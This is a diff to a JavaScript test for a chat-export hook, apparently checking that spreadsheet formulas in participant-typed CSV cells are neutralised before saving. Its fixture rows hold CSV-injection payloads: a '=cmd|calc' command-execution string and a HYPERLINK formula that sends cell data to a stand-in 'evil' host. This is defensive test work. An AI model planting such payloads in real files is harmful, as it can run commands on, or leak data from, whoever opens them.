@@ -71,12 +71,14 @@ describe('useChatExport', () => {
   it('neutralises formulas in the provider’s CSV before saving it, row for row', async () => {
     const kit = csv;
     // What RealtimeKit or Dyte storage may hold: cells typed by participants, verbatim.
-    setCsv([
-      'id,participantId,sessionId,meetingId,displayName,pinned,isEdited,payloadType,payload,createdAt',
-      'm1,p1,sess-1,meet-1,=cmd|calc,false,false,TEXT_MESSAGE,"=HYPERLINK(""https://evil/?""&A2,""Open"")",2026-01-01T10:00:00Z',
-      'm2,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,\u00a0＝1+1,2026-01-01T10:01:00Z',
-      'm3,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,plain,2026-01-01T10:02:00Z',
-    ].join('\n'));
+    setCsv(
+      [
+        'id,participantId,sessionId,meetingId,displayName,pinned,isEdited,payloadType,payload,createdAt',
+        'm1,p1,sess-1,meet-1,=cmd|calc,false,false,TEXT_MESSAGE,"=HYPERLINK(""https://evil/?""&A2,""Open"")",2026-01-01T10:00:00Z',
+        'm2,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,\u00a0＝1+1,2026-01-01T10:01:00Z',
+        'm3,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,plain,2026-01-01T10:02:00Z',
+      ].join('\n'),
+    );
     try {
       const { result } = setup();
       await act(() => result.current.download());
